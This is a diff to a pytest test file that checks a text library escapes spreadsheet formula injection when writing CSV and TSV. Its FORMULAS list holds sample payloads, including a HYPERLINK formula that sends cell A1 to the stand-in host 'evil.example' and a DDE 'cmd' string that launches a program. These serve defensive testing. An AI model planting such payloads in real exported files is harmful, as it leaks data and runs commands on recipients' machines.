@@ -9,6 +9,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from growth import grows_as
 from handful.errors import FormatError
 from handful.text import Document, Span, read, stream, write
 
@@ -216,7 +217,45 @@ def test_any_cells_come_back(format, rows):
     with stream_bytes(data, format, unlabelled=True) as found:
         back = list(found)
     assert [(one.meta["a"], one.text, one.meta["b"]) for one in back] == rows
-    assert [[*row.values()][:3] for row in rows_of(data, "\t" if format == "tsv" else ",")] == [[*row] for row in rows]
+    kept = written(documents, format, keep_formulas=True)
+    assert [[*row.values()][:3] for row in rows_of(kept, "\t" if format == "tsv" else ",")] == [[*row] for row in rows]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "=1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "+A.B(1)",
+    "'=x",
+    "''=x",
+]
+
+
+@pytest.mark.parametrize("format", ["csv", "tsv"])
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_spreadsheet_runs_no_cell(format, text):
+    documents = [Document(text, (), meta={"a": text, "text": text})]
+    data, kept = written(documents, format), written(documents, format, keep_formulas=True)
+    separator = "\t" if format == "tsv" else ","
+    assert [one for row in rows_of(data, separator) for one in list(row.values())[:2]] == [f"'{text}"] * 2
+    assert [one for row in rows_of(kept, separator) for one in list(row.values())[:2]] == [text] * 2
+    with stream_bytes(data, format, unlabelled=True) as found:
+        assert [(one.text, one.meta["a"]) for one in found] == [(text, text)]
+    report = write(documents, io.BytesIO(), format)
+    assert "2 cells that a spreadsheet would run have a ' before them" in report.handled()
+
+
+@pytest.mark.parametrize("text", ["- Slugs (many) again", "-5 degrees", "@anna look", "+ more", "'tis", "'- so", "a=b"])
+def test_other_cells_are_as_they_are(text):
+    data = written([Document(text, (), meta={"text": text})], "csv")
+    assert [row["text"] for row in rows_of(data, ",")] == [text]
+
+
+@pytest.mark.parametrize("piece", ["'", "=", "-a", "|", "a(", "+ "])
+def test_formulas_are_found_in_linear_time(piece):
+    documents = lambda n: [Document(piece * n, (), meta={"text": piece * n})]  # noqa: E731
+    assert grows_as(lambda given: written(given, "csv"), documents, 2000) < 1.5
 
 
 def test_a_stream_of_a_large_table(tmp_path):
